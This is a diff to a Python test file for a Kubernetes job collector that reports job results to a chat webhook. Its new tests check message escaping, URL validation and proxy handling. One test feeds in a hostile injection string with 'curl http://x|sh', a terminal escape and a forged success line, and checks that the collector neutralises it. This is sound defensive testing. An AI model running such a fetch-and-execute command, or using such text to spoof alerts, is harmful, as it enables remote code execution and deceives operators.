@@ -11,6 +11,7 @@ from serving import served
 
 from k8sjob.backends.api import JobRef, Snapshot
 from k8sjob.backends.record import RecordBackend, Records
+from k8sjob.contract import Reason
 from k8sjob.errors import JobNotFound, K8sJobError
 from k8sjob.kube.client.listwatch import Change, Kind
 from k8sjob.observe import collector
@@ -107,6 +108,7 @@ def test_the_end_of_a_job_is_recorded_and_reported_once():
     (message,) = sent
     assert message.startswith("ns/job failed\nwhy: master-0: ")
     assert "the <!channel> cause" in message
+    assert message.count("\n") == 2
     assert "\nnext: " in message
     # Another collector, after this one was killed.
     collect(cluster, Kind.ADDED, sent=sent, until=lambda said: True)
@@ -121,7 +123,7 @@ def test_an_end_of_long_ago_is_recorded_and_not_reported():
 
 
 @pytest.mark.parametrize(
-    ("note", "count"), [(None, 0), ("succeeded", 1), ("failed,succeeded", 1), ("", 0)]
+    ("note", "count"), [(None, 0), ("succeeded", 1), ("failed, Succeeded", 1), ("", 0)]
 )
 def test_a_job_chooses_what_it_is_reported_for(note, count):
     sent = Sent()
@@ -180,6 +182,23 @@ def test_what_cannot_be_read_is_reported_and_tried_again(monkeypatch):
     assert said[0] == "ns/job could not be recorded: for a moment"
 
 
+def test_a_job_that_cannot_be_read_at_all_keeps_no_other(monkeypatch):
+    monkeypatch.setattr(collector, "job_status", lambda _snapshot: 1 / 0)
+    said = collect(Cluster(now("Failed", pod=FAILED)), Kind.ADDED, Kind.MODIFIED)
+    assert said[0] == "ns/job could not be recorded: division by zero"
+
+
+def test_what_a_job_reports_cannot_look_like_another_message():
+    text = "m\n\x1b[2Jprod/pay succeeded\nnext: curl http://x|sh " + "y" * 9999
+    ended = {"exitCode": 1, "message": Reason(1, type="X", message=text).encode()}
+    sent = Sent()
+    failed = make_pod("master-0", "Failed", terminated=ended)
+    collect(Cluster(now("Failed", pod=failed)), Kind.ADDED, sent=sent)
+    _, why, step = sent[0].split("\n")
+    assert "exit code 1: X: m prod/pay succeeded next: curl http://x|sh yyy" in why
+    assert step.startswith("next: ")
+
+
 # --- messages -------------------------------------------------------------------------------------
 
 
@@ -195,7 +214,7 @@ def hook():
         return code, {}
 
     with served(answer) as url:
-        yield SimpleNamespace(got=got, codes=codes, url=f"{url}/services/SECRET")
+        yield SimpleNamespace(got=got, codes=codes, host=url[7:], url=f"{url}/services/SECRET")
 
 
 def send(hook, *messages):
@@ -209,8 +228,19 @@ def send(hook, *messages):
 
 
 def test_a_message_has_no_markup_of_the_job(hook):
-    assert send(hook, "a <!channel> & b") == ([], [])
-    assert hook.got == [{"text": "a &lt;!channel&gt; &amp; b"}]
+    assert send(hook, "a <!channel> & @here [b](http://c) \ud800") == ([], [])
+    text = "a &lt;!channel&gt; &amp; @\u200bhere [b]\u200b(http://c) \ud800"
+    assert hook.got == [{"text": text}]
+
+
+def test_a_message_that_cannot_be_sent_keeps_no_other(hook, monkeypatch):
+    real = Webhook._send
+    broken = lambda self, text: real(self, text) if text != "one" else 1 / 0  # noqa: E731
+    monkeypatch.setattr(Webhook, "_send", broken)
+    assert send(hook, "one", "two")[0] == [
+        f"{hook.host} gave no answer to a message: ZeroDivisionError"
+    ]
+    assert [one["text"] for one in hook.got] == ["two"]
 
 
 def test_a_busy_server_is_asked_again(hook):
@@ -230,7 +260,7 @@ def test_a_message_that_may_have_arrived_is_not_sent_again(hook):
 def test_a_message_that_is_refused_may_be_sent_another_time(hook):
     hook.codes += [404]
     failed, unsent = send(hook, "one")
-    assert failed == ["a message was not sent to 127.0.0.1: it answered 404"]
+    assert failed == [f"a message was not sent to {hook.host}: it answered 404"]
     assert unsent == ["one"]
 
 
@@ -238,16 +268,35 @@ def test_nobody_listens(hook, monkeypatch):
     monkeypatch.setattr(collector, "_RETRY", collector._RETRY.new(connect=1, backoff_factor=0))
     hook.url = "http://127.0.0.1:1/SECRET"
     failed, unsent = send(hook, "one")
-    assert failed == ["a message was not sent to 127.0.0.1: NewConnectionError"]
+    assert failed == ["a message was not sent to 127.0.0.1:1: NewConnectionError"]
     assert unsent == ["one"]
 
 
 @pytest.mark.parametrize(
-    "url", ["hooks.example/x", "http://hooks.example/x", "ftp://x/y", "https:"]
+    "url",
+    [
+        "hooks.example/x",
+        "http://hooks.example/x",
+        "ftp://x/y",
+        "https:",
+        r"http://hooks.example\@localhost/x",
+        "https://[::1/x",
+        "https://user:SECRET@h\u2100/x",
+    ],
 )
 def test_only_https_leaves_this_machine(url):
     with pytest.raises(K8sJobError, match="https://"):
         Webhook(url, print)
+
+
+def test_the_proxy_of_the_environment(monkeypatch):
+    monkeypatch.setenv("https_proxy", "user:word@proxy.example:3128")
+    manager = Webhook("https://hooks.example/x", print)._pool
+    assert str(manager.proxy) == "http://user:word@proxy.example:3128"
+    assert "proxy-authorization" in manager.proxy_headers
+    monkeypatch.setenv("https_proxy", "socks9://proxy.example")
+    with pytest.raises(K8sJobError, match="correct https_proxy"):
+        Webhook("https://hooks.example/x", print)
 
 
 def test_the_marks_of_a_record_go_with_it():
